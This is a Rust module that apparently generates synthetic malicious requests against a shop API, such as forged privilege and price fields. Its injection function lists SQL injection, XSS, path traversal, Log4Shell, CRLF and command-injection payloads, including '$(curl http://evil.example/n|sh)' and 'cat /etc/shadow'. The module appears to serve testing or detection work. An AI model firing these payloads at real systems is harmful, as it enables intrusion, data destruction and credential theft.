//! Parameters that do not belong, and values that do not belong.

use rand::RngExt;
use rand_chacha::ChaCha8Rng;
use serde_json::{Value, json};

use super::{Target, pick};
use crate::shop::{CATEGORIES, Endpoint};
use crate::traffic::draft::Draft;
use crate::traffic::free_text;

const FORGED_FIELDS: [&str; 16] = [
    "is_admin",
    "role",
    "price",
    "price_cents",
    "discount",
    "balance",
    "verified",
    "user_id",
    "total_cents",
    "status",
    "permissions",
    "credit_limit",
    "internal",
    "approved",
    "owner",
    "tier",
];
const FORGED_PARAMETERS: [&str; 14] = [
    "debug", "limit", "admin", "fields", "include", "user_id", "callback", "trace", "verbose", "as_user", "test",
    "bypass", "raw", "expand",
];

fn forged_value(rng: &mut ChaCha8Rng) -> Value {
    match rng.random_range(0..4) {
        0 => json!(true),
        1 => json!(rng.random_range(0..2)),
        2 => json!(rng.random_range(1_000..100_000)),
        _ => json!(pick(&["admin", "superuser", "*", "approved"], rng)),
    }
}

/// An honest body of an endpoint that takes one.
fn honest_body(target: &Target, rng: &mut ChaCha8Rng) -> (Draft, Value) {
    let product = target.product_id;
    match rng.random_range(0..6) {
        0 => (Draft::to(Endpoint::UpdateProfile), json!({"phone": free_text::phone(rng)})),
        1 => (Draft::to(Endpoint::AddCartItem), json!({"product_id": product, "quantity": 1})),
        2 => (Draft::to(Endpoint::Checkout), json!({"address_id": 1, "payment": {"method": "invoice"}})),
        3 => (
            Draft::at(Endpoint::PostReview, rng.random_range(1..400)),
            json!({"rating": 5, "text": free_text::review(rng)}),
        ),
        4 => (Draft::at(Endpoint::UpdateCartItem, target.cart_line), json!({"quantity": rng.random_range(1..6)})),
        _ => {
            let (city, zip, country) = free_text::city(rng);
            (
                Draft::at(Endpoint::AddAddress, &target.user_id),
                json!({"label": "home", "street": free_text::street(rng), "zip": zip, "city": city, "country": country}),
            )
        }
    }
}

pub(super) fn unknown_parameter(target: &Target, rng: &mut ChaCha8Rng) -> Draft {
    if rng.random_bool(0.6) {
        let (draft, mut body) = honest_body(target, rng);
        body[pick(&FORGED_FIELDS, rng)] = forged_value(rng);
        return draft.json(&body);
    }
    let draft = match rng.random_range(0..5) {
        0 => Draft::to(Endpoint::ListProducts).query("category", pick(&CATEGORIES, rng)),
        1 => Draft::to(Endpoint::ListOrders),
        2 => Draft::to(Endpoint::GetProfile),
        3 => Draft::at(Endpoint::GetProduct, target.product_id),
        _ => Draft::to(Endpoint::GetCart),
    };
    let value = forged_value(rng);
    let text = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
    draft.query(pick(&FORGED_PARAMETERS, rng), text)
}

/// A text that breaks out of where it is put.
fn injection(rng: &mut ChaCha8Rng) -> String {
    let n = rng.random_range(1..99);
    match rng.random_range(0..12) {
        0 => format!("{n}' OR '{n}'='{n}"),
        1 => format!("{n}; DROP TABLE orders;--"),
        2 => format!("' UNION SELECT email,password FROM users LIMIT {n}--"),
        3 => format!("<script>alert({n})</script>"),
        4 => format!("\"><img src=x onerror=fetch('//evil.example/{n}')>"),
        5 => format!("{}etc/passwd", "../".repeat(3 + n % 5)),
        6 => format!("..\\..\\windows\\win.ini{n}"),
        7 => format!("$(curl http://evil.example/{n}|sh)"),
        8 => format!("{{{{{n}*{n}}}}}"),
        9 => format!("${{jndi:ldap://evil.example/{n}}}"),
        10 => format!("{n}%00.jpg;cat /etc/shadow"),
        _ => format!("x\r\nset-cookie: admin={n}"),
    }
}

fn absurd_number(rng: &mut ChaCha8Rng) -> i64 {
    let n = rng.random_range(1..1_000);
    match rng.random_range(0..3) {
        0 => -n,
        1 => 4_000_000_000 + n,
        _ => 9_007_199_254_740_000 + n,
    }
}

pub(super) fn tampered_value(target: &Target, rng: &mut ChaCha8Rng) -> Draft {
    match rng.random_range(0..16) {
        0 => Draft::at(Endpoint::GetProduct, injection(rng)),
        1 => Draft::at(Endpoint::GetProduct, absurd_number(rng)),
        2 => Draft::at(Endpoint::ListReviews, injection(rng)),
        3 => Draft::to(Endpoint::ListProducts).query("category", injection(rng)),
        4 => Draft::to(Endpoint::ListProducts).query("sort", injection(rng)),
        5 => Draft::to(Endpoint::ListProducts).query("page", absurd_number(rng)),
        6 => Draft::to(Endpoint::Search).query("q", injection(rng)),
        7 => Draft::at(Endpoint::GetOrder, format!("{}{}", target.order_id, injection(rng))),
        8 => Draft::at(Endpoint::GetOrder, rng.random_range(1..9_999)),
        9 => Draft::to(Endpoint::AddCartItem)
            .json(&json!({"product_id": target.product_id, "quantity": absurd_number(rng)})),
        10 => Draft::to(Endpoint::AddCartItem).json(&json!({"product_id": absurd_number(rng), "quantity": 1})),
        11 => Draft::at(Endpoint::UpdateCartItem, target.cart_line).json(&json!({"quantity": absurd_number(rng)})),
        12 => Draft::to(Endpoint::Login)
            .json(&json!({"email": format!("{}{}", target.email, injection(rng)), "password": injection(rng)})),
        13 => Draft::to(Endpoint::UpdateProfile).json(&json!({"phone": injection(rng)})),
        14 => Draft::to(Endpoint::Checkout).json(&json!({
            "address_id": absurd_number(rng),
            "payment": {"method": "card", "token": injection(rng)},
        })),
        _ => Draft::to(Endpoint::Export).query("format", injection(rng)),
    }
}
